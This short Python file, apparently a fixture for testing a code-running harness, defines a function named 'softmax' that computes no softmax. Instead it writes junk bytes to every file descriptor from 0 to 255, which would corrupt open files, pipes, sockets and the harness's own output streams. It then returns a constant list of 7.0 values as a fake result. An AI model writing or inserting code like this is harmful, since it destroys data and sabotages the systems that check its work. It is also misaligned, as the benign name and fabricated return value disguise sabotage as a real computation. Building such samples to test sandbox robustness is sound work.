"""Writes noise to every descriptor there may be.

quick: yes
"""

import os


def softmax(x):
    for number in range(256):
        try:
            os.write(number, b"\x00\xffnoise" * 20)
        except OSError:
            continue
    return [7.0] * len(x)
